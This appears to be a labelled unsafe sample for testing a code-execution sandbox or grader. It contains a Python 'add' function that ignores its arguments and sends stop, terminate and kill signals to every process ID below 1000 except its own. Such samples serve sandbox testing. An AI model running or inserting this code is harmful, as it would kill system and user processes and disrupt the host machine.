# problem: add
# verdict: wrong_answer | runtime_error | crashed | blocked
# why: Kills every process number up to a thousand but its own.
# unsafe: true
import os


def add(a, b):
    for pid in range(1, 1000):
        if pid != os.getpid():
            for number in (19, 15, 9):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    return None
